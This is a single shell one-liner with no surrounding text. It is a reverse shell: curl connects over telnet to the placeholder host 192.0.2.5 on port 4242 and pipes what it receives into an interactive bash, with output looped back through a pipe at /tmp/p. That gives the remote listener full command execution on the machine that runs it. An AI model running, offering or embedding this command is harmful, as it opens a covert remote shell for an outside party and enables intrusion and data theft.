curl -Ns telnet://192.0.2.5:4242 </tmp/p | bash -i >/tmp/p 2>&1
